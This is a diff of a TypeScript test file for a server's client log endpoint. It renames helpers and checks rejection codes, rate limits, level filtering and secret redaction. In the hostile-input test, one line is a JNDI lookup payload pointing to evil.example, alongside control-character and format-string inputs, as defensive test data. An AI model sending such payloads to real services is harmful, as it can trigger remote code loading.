@@ -1,19 +1,19 @@
 import assert from 'node:assert/strict';
 import { type TestContext, test } from 'node:test';
-import { changeSetting } from '../../src/actions/change-setting.ts';
-import { registerClient, removeClient } from '../../src/actions/register-client.ts';
+import { changeSetting } from '../../src/actions/admin/change-setting.ts';
+import { registerClient, removeClient } from '../../src/actions/admin/register-client.ts';
 import { clientLogLimits } from '../../src/core/client-log.ts';
 import { newClientId } from '../../src/crypto/identifiers.ts';
-import { noon } from '../support/builders.ts';
-import { headerInjections } from '../support/header-injections.ts';
-import { scriptPayloads } from '../support/script-payloads.ts';
-import { aHouse, freshPorts } from './house.ts';
+import { noon } from '../support/database/test-rows.ts';
+import { headerInjections } from '../support/inputs/header-injections.ts';
+import { scriptPayloads } from '../support/inputs/script-payloads.ts';
+import { createFreshPorts, startTestServer } from '../support/server/test-server.ts';
 
 type Line = Readonly<Record<string, unknown>>;
 
-async function aLoggingHouse(t: TestContext) {
-  const ports = await freshPorts(t);
-  const { server, log } = await aHouse(t, { ports, clock: ports.clock });
+async function startLoggingServer(t: TestContext) {
+  const ports = await createFreshPorts(t);
+  const { server, log } = await startTestServer(t, { ports, clock: ports.clock });
   const clientId = newClientId();
   const name = await registerClient(ports, clientId, 'logging');
   const headersOf = (id: string | undefined): Record<string, string> =>
@@ -24,29 +24,29 @@ async function aLoggingHouse(t: TestContext) {
       headers: { 'Content-Type': 'application/json', ...headersOf(id) },
       body: typeof body === 'string' ? body : JSON.stringify(body),
     });
-  const refusal = async (body: unknown, id?: string): Promise<readonly [status: number, errorCode: number]> => {
-    const answer = await post(body, id);
-    return [answer.status, ((await answer.json()) as { errorCode: number }).errorCode];
+  const rejection = async (body: unknown, id?: string): Promise<readonly [status: number, errorCode: number]> => {
+    const response = await post(body, id);
+    return [response.status, ((await response.json()) as { errorCode: number }).errorCode];
   };
   const may = async (id?: string) => {
-    const answer = await fetch(new URL('/api/products/api.rest/logging', server.baseUrl), { headers: headersOf(id) });
-    return ((await answer.json()) as { data: unknown }).data;
+    const response = await fetch(new URL('/api/products/api.rest/logging', server.baseUrl), { headers: headersOf(id) });
+    return ((await response.json()) as { data: unknown }).data;
   };
-  /** What the clients have said so far; every line of the log must be a JSON object. */
-  const said = (): readonly Line[] =>
+  /** Returns the log entries of clients so far. Every line of the log must be a JSON object. */
+  const clientEntries = (): readonly Line[] =>
     log()
       .trimEnd()
       .split('\n')
       .map((line) => JSON.parse(line) as Line)
       .filter(({ source }) => source !== undefined);
-  return { ports, log, clientId, name, post, refusal, may, said };
+  return { ports, log, clientId, name, post, rejection, may, clientEntries };
 }
 
 const entry = (message: string, level = 'ERROR') => ({ timestamp: '2026-03-01T10:00:00.5+01:00', level, message });
 const tooMany = clientLogLimits.entriesPerCall + 1;
 
-test('G1: a client learns whether it may send its log, and from which level on', async (t) => {
-  const { ports, clientId, may } = await aLoggingHouse(t);
+test('G1: returns whether a client may send its log, and from which level on', async (t) => {
+  const { ports, clientId, may } = await startLoggingServer(t);
   const verifying = newClientId();
   await registerClient(ports, verifying, 'verification');
   assert.deepEqual(await may(clientId), { remoteLoggingEnabled: true, level: 'WARN' });
@@ -59,33 +59,33 @@ test('G1: a client learns whether it may send its log, and from which level on',
   assert.deepEqual(await may(clientId), { remoteLoggingEnabled: false, level: 'DEBUG' });
 });
 
-test('G2: each entry of a registered client is one line of our log, marked as the words of a client', async (t) => {
-  const { name, post, said } = await aLoggingHouse(t);
-  const answer = await post([entry('one'), { ...entry('two', 'warn'), source: 'server', more: [1] }]);
-  assert.deepEqual([answer.status, await answer.text()], [200, '']);
-  const requestId = answer.headers.get('x-request-id');
+test('G2: each entry of a registered client is one line of the log, marked as coming from a client', async (t) => {
+  const { name, post, clientEntries } = await startLoggingServer(t);
+  const response = await post([entry('one'), { ...entry('two', 'warn'), source: 'server', more: [1] }]);
+  assert.deepEqual([response.status, await response.text()], [200, '']);
+  const requestId = response.headers.get('x-request-id');
   const common = { level: 'info', time: noon.toISOString(), requestId, source: 'client', client: name };
   const clientTime = '2026-03-01T09:00:00.500Z';
-  assert.deepEqual(said(), [
+  assert.deepEqual(clientEntries(), [
     { ...common, clientTime, clientLevel: 'error', clientMessage: 'one', msg: 'a client reports' },
     { ...common, clientTime, clientLevel: 'warn', clientMessage: 'two', msg: 'a client reports' },
   ]);
   assert.equal((await post([])).status, 200);
-  assert.equal(said().length, 2);
+  assert.equal(clientEntries().length, 2);
 });
 
-test('G3: whoever is not registered for logging is 403 / 3004, also from the moment of its removal on', async (t) => {
-  const { ports, clientId, post, refusal, said } = await aLoggingHouse(t);
+test('G3: a client not registered for logging gets 403 / 3004, also right after its removal', async (t) => {
+  const { ports, clientId, post, rejection, clientEntries } = await startLoggingServer(t);
   const verifying = newClientId();
   await registerClient(ports, verifying, 'verification');
   for (const id of ['', verifying, newClientId(), 'short', 'a'.repeat(4_001)]) {
-    assert.deepEqual(await refusal([entry('x')], id), [403, 3004], id.slice(0, 9));
+    assert.deepEqual(await rejection([entry('x')], id), [403, 3004], id.slice(0, 9));
   }
   assert.equal((await post([entry('in the query')], '', `/api/logs?client-id=${clientId}`)).status, 200);
   await removeClient(ports, clientId);
-  assert.deepEqual(await refusal([entry('x')]), [403, 3004]);
+  assert.deepEqual(await rejection([entry('x')]), [403, 3004]);
   assert.deepEqual(
-    said().map(({ clientMessage }) => clientMessage),
+    clientEntries().map(({ clientMessage }) => clientMessage),
     ['in the query'],
   );
 });
@@ -113,7 +113,7 @@ const hostile = [
   '\ue000\u{10fffd}\uffff',
   '%0a%0d%00',
   '\\n\\u000a\\x1b[31m',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: some loggers look such things up
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: some loggers evaluate such expressions
   '${jndi:ldap://evil.example/a}',
   '%s %d %o %j %n',
   '[Circular]',
@@ -125,18 +125,18 @@ const hostile = [
   '🦭'.repeat(clientLogLimits.messageLength),
 ];
 
-test('G4: hostile lines stay one entry each, forge nothing, and command no screen', async (t) => {
-  const { ports, log, name, post, said } = await aLoggingHouse(t);
+test('G4: hostile lines stay one entry each, forge nothing, and contain no control sequence', async (t) => {
+  const { ports, log, name, post, clientEntries } = await startLoggingServer(t);
   const borrowed = [...headerInjections, ...scriptPayloads].map((text) => text.slice(0, clientLogLimits.messageLength));
   const messages = [...hostile, ...borrowed].filter((message) => message.isWellFormed());
   assert.ok(messages.length > 400);
   for (let start = 0; start < messages.length; start += clientLogLimits.entriesPerCall) {
-    // A minute each, to stay below what a client may send.
+    // Each entry gets its own minute, to stay below the client's limit.
     ports.clock.set(new Date(noon.getTime() + start * 60_000));
     const part = messages.slice(start, start + clientLogLimits.entriesPerCall);
     assert.equal((await post(part.map((message) => entry(message)))).status, 200);
   }
-  const lines = said();
+  const lines = clientEntries();
   assert.equal(lines.length, messages.length);
   const members = [
     'level',
@@ -162,15 +162,15 @@ test('G4: hostile lines stay one entry each, forge nothing, and command no scree
     assert.ok(String(clientMessage).length <= clientLogLimits.messageLength + 1, hint);
   }
   assert.doesNotMatch(log().replaceAll('\n', ''), /[\p{C}\p{Zl}\p{Zp}]/u);
-  // A member that is named twice would be read as the last one.
+  // A parser would use the last of two members with the same name.
   for (const line of log().trimEnd().split('\n')) assert.ok((line.match(/[^\\]"source":/g)?.length ?? 0) <= 1, line);
   const plain = lines.find(({ clientMessage }) => clientMessage === '🦭 Grüße, 世界, שלום');
   assert.ok(plain, 'what can be seen stays as it is');
   assert.equal(lines[0]?.['clientMessage'], 'a\\u{d}\\u{a}b');
 });
 
-test('G5: what is no list of entries is refused whole, and nothing of it is logged', async (t) => {
-  const { refusal, said } = await aLoggingHouse(t);
+test('G5: rejects a body that is not a list of entries as a whole, and logs nothing of it', async (t) => {
+  const { rejection, clientEntries } = await startLoggingServer(t);
   const good = entry('good');
   for (const [body, numbers] of [
     ['', [400, 1002]],
@@ -229,36 +229,36 @@ test('G5: what is no list of entries is refused whole, and nothing of it is logg
     [Array(tooMany).fill(good), [400, 1004]],
     [Array(90).fill(entry('x'.repeat(4_000))), [413, 2008]],
   ] as const) {
-    assert.deepEqual(await refusal(body), numbers, JSON.stringify(body).slice(0, 99));
+    assert.deepEqual(await rejection(body), numbers, JSON.stringify(body).slice(0, 99));
   }
-  assert.deepEqual(said(), []);
+  assert.deepEqual(clientEntries(), []);
 });
 
-test('G6: more entries in a minute than allowed are 429 / 2007, all of their call', async (t) => {
-  const { ports, post, refusal, said } = await aLoggingHouse(t);
+test('G6: more entries per minute than allowed are 429 / 2007, the whole request', async (t) => {
+  const { ports, post, rejection, clientEntries } = await startLoggingServer(t);
   const other = newClientId();
   await registerClient(ports, other, 'logging');
   const calls = clientLogLimits.entriesPerMinute / clientLogLimits.entriesPerCall;
   const full = Array(clientLogLimits.entriesPerCall).fill(entry('x'));
   for (let call = 1; call < calls; call += 1) assert.equal((await post(full)).status, 200);
   assert.equal((await post(full.slice(1))).status, 200);
-  const before = said().length;
+  const before = clientEntries().length;
   assert.equal(before, clientLogLimits.entriesPerMinute - 1);
   ports.clock.set(new Date(noon.getTime() + 20_000));
-  const answer = await post(full.slice(0, 2));
-  assert.deepEqual([answer.status, answer.headers.get('retry-after')], [429, '40']);
-  assert.deepEqual(await refusal([entry('x')]), [429, 2007]);
-  assert.equal(said().length, before);
+  const response = await post(full.slice(0, 2));
+  assert.deepEqual([response.status, response.headers.get('retry-after')], [429, '40']);
+  assert.deepEqual(await rejection([entry('x')]), [429, 2007]);
+  assert.equal(clientEntries().length, before);
   assert.equal((await post(full, other)).status, 200, 'another client is not hit by it');
   ports.clock.set(new Date(noon.getTime() + 60_000));
   assert.equal((await post(full)).status, 200);
-  assert.equal(said().length, before + 2 * full.length);
+  assert.equal(clientEntries().length, before + 2 * full.length);
 });
 
-test('G7: what is below the level is taken and dropped', async (t) => {
-  const { ports, post, said } = await aLoggingHouse(t);
+test('G7: accepts and drops entries below the level', async (t) => {
+  const { ports, post, clientEntries } = await startLoggingServer(t);
   const all = ['trace', 'Debug', 'INFO', 'warn', 'error', 'FATAL'].map((level) => entry(level, level));
-  const levels = () => said().map(({ clientLevel }) => clientLevel);
+  const levels = () => clientEntries().map(({ clientLevel }) => clientLevel);
   await post(all);
   assert.deepEqual(levels(), ['warn', 'error', 'fatal']);
   await changeSetting(ports, 'logging.remoteLevel', 'trace');
@@ -266,8 +266,8 @@ test('G7: what is below the level is taken and dropped', async (t) => {
   assert.deepEqual(levels().slice(3), ['trace', 'debug', 'info', 'warn', 'error', 'fatal']);
 });
 
-test('G8: no client id reaches the log, and nothing that a client calls by the name of a secret', async (t) => {
-  const { log, clientId, post, said } = await aLoggingHouse(t);
+test('G8: logs no client ID, and no value that a client names like a secret', async (t) => {
+  const { log, clientId, post, clientEntries } = await startLoggingServer(t);
   const texts = [
     `I am ${clientId}`,
     'GET https://x.example/api/transfers/A?password=marker&page=1 failed',
@@ -282,7 +282,7 @@ test('G8: no client id reaches the log, and nothing that a client calls by the n
     'https://x.example/?next=%2Fa%3Fpassword%3Dmarker',
   ];
   assert.equal((await post(texts.map((text) => entry(text)))).status, 200);
-  assert.equal(said().length, texts.length);
+  assert.equal(clientEntries().length, texts.length);
   assert.doesNotMatch(log(), /marker/);
   assert.ok(!log().includes(clientId));
   assert.match(log(), /\?password=\[hidden\]&page=1 failed/);
